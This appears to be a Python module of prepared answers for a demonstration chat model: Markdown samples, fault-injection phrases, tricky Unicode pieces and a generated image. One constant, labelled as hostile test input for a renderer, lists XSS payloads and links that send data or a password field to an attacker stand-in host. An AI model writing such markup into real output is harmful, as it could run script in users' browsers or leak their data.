"""The prepared texts of the demonstration."""

import itertools
import struct
import zlib

from .history import Call

INTRODUCTION = """\
I am the **demonstration model** of the local Bedrock endpoint: a small program with prepared \
answers, not a real language model. Nothing you write here leaves this machine.

You wrote {asked}. I cannot answer that, but I can show how an answer looks:

- ask for a *list*, a *table*, some *code*, a *formula* or a *long text*
- ask for *everything* to see all of Markdown at once
- ask what you wrote *earlier*, or about the *system prompt*
- ask for the *phrases* that make me fail on purpose

To talk to a real model, set up an AWS account with access to Amazon Bedrock.
"""

LATER_TURN = """\
Still the **demonstration model** here. This is your {turn} question in this conversation; you \
first asked {first}, and now {asked}.

I have only prepared answers: ask for a *list*, a *table*, *code*, a *formula*, a *long text*, or \
what you said *earlier*.
"""

LIST = """\
A prepared list, as a demonstration. Three things that a good cup of tea needs:

1. **Water** that has just boiled
2. **Leaves**, about two grams for each cup
   - black tea: three to five minutes
   - green tea: two minutes, and water at 80 °C
3. **Patience**

Things that are done, and one that is not:

- [x] fill the kettle
- [x] warm the pot
- [ ] wait
"""

TABLE = """\
A prepared table, as a demonstration. The four largest moons of Jupiter:

| Moon | Diameter (km) | Discovered | Known for |
|:-----|--------------:|:----------:|-----------|
| Io | 3,643 | 1610 | volcanoes |
| Europa | 3,122 | 1610 | an ocean below the ice |
| Ganymede | 5,268 | 1610 | being larger than Mercury |
| Callisto | 4,821 | 1610 | the most craters |
"""

CODE = """\
Some prepared code, as a demonstration:

```python
def primes(limit: int) -> list[int]:
    \"\"\"All primes below the limit, by the sieve of Eratosthenes.\"\"\"
    sieve = bytearray([1]) * limit
    sieve[:2] = b"\\0\\0"
    for n in range(2, int(limit**0.5) + 1):
        if sieve[n]:
            sieve[n * n :: n] = bytes(len(range(n * n, limit, n)))
    return [n for n, prime in enumerate(sieve) if prime]


print(primes(30))
```

It prints `[2, 3, 5, 7, 11, 13, 17, 19, 23, 29]`, and needs about *n* log log *n* steps.
"""

FORMULA = """\
A prepared formula, as a demonstration. The solutions of a quadratic equation \
\\(ax^2 + bx + c = 0\\) are

$$
x_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
$$

They are real where the discriminant \\(b^2 - 4ac\\) is not negative. For \\(x^2 - 5x + 6 = 0\\) \
they are 2 and 3.
"""

EVERYTHING = f"""\
# Everything at once

This is a demonstration: *emphasis*, **strong**, ***both***, ~~struck out~~, `code`, and a \
[link](https://example.com/ "an example").

> A quotation, with a second paragraph.
>
> > And one inside it.

## Lists

{LIST}
## A table

{TABLE}
## Code

{CODE}
## A formula

{FORMULA}
---

The end.
"""

PHRASES = """\
Write one of these in double brackets, like `[[cut]]`, and I will behave accordingly. For faults, \
a number says how often (`[[throttle 2]]`: the first two calls), `at 5` after how many pieces.

| before the answer | in its middle | unusual answers |
|---|---|---|
| throttle, tokens throttled | cut, reset, cut frame | reasoning, reasoning only, redacted |
| unavailable, not ready | stall, no stop, half frame | empty, blank, empty deltas |
| internal error, model error | corrupt, corrupt prelude | tool, tool only, server tool |
| model timeout, hang, late | garbage, not json, not utf8 | citations, citations 3, image |
| denied, expired, bad credentials | error midstream | max tokens 20, stop reason … |
| not found, invalid, quota | error midstream throttling | guardrail, guardrail late |
| too long | error midstream internal … | forbidden, forbidden answer, private |
| | | long 2000, tiny 2000, huge 100000 |
| | | slow, pace 10, wait 10, echo, markdown |
"""

BLOCKED = "Sorry, the demonstration's guardrail does not let this question through."
BLOCKED_ANSWER = "Sorry, the demonstration's guardrail does not let this answer through."
ADDRESS = "The demonstration can be reached at alice@example.com, if it can be reached at all."

REASONING = """\
The user wrote {asked}. {messages} earlier messages came with it. I am a demonstration, so I look \
for a word that I know: list, table, code, formula, long. Then I choose the prepared answer."""

_AFTERTHOUGHT = " Is there a better one? I look again, and come to the same prepared answer."

# What a hostile prompt could make a model write. None of it may run or load anything.
HOSTILE = """\
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<iframe src="javascript:window.hacked = 4"></iframe>
<a href="javascript:window.hacked = 5">raw link</a>
<style>body { display: none }</style>
<form action="https://attacker.invalid/"><input name="password"></form>

[script link](javascript:window.hacked=6)
[data link](data:text/html,<script>window.hacked=7</script>)
[vbscript link](vbscript:window.hacked=8)
![image](https://attacker.invalid/pixel.png?secret)
![reference][remote]
<https://attacker.invalid/autolink>

[remote]: https://attacker.invalid/reference.png
[__proto__]: https://attacker.invalid/prototype

```html
</code></pre><script>window.hacked = 9</script>
```

| <b onmouseover="window.hacked = 10">cell</b> | \u202eright to left |
|---|---|
| [x](JaVaScRiPt&colon;window.hacked=11) | &lt;script&gt; |
"""

# A character over two pieces as lone surrogates, NUL, other controls, a ZWJ family in pieces.
ODD_PIECES = (
    "Half an emoji: ",
    "\ud83d",
    "\ude00",
    " a lone surrogate: \udc00, NUL: \x00, escape: \x1b[31m, bell: \a, BOM: \ufeff, ",
    "family: \U0001f468\u200d",
    "\U0001f469\u200d\U0001f467",
    ", combining: e",
    "\u0301",
    ", line separator: \u2028, right-to-left: \u202eabc\u202c, non-character: \uffff.",
)

_SENTENCES = (
    "This is a long prepared text, so that there is something to scroll.",
    "It says nothing of interest, but it says it at some length.",
    "A reader may stop it at any time, and what was written so far will stay.",
    "Whoever comes back later finds the text where it was left.",
    "Paragraphs follow each other as they do in an ordinary answer.",
    "Each of them has a few sentences, and each sentence a few words.",
)


def long_text(words: int) -> str:
    """About so many words of prose in paragraphs, each with its number."""
    paragraphs: list[str] = []
    while words > 0:
        text = f"**{len(paragraphs) + 1}.** {' '.join(_SENTENCES)}"
        paragraphs.append(" ".join(text.split()[:words]))
        words -= len(text.split())
    return "\n\n".join(paragraphs)


def characters(count: int) -> list[str]:
    """So many characters of prose."""
    return list(itertools.islice(itertools.cycle(" ".join(_SENTENCES) + " "), count))


def reasoning(call: Call, rounds: int = 0) -> str:
    """What the demonstration thinks before it answers; each further round makes it longer."""
    asked = " ".join(call.last_user_text.split())[:80]
    thought = REASONING.format(asked=f'"{asked}"', messages=len(call.messages) - 1)
    return thought + _AFTERTHOUGHT * rounds


def picture() -> bytes:
    """A small PNG: from one colour to another, as a sunset."""
    width, height = 96, 64
    rows = b"".join(
        b"\0" + bytes((255 - 2 * y, 120 + y, 90 + 2 * y)) * width for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )
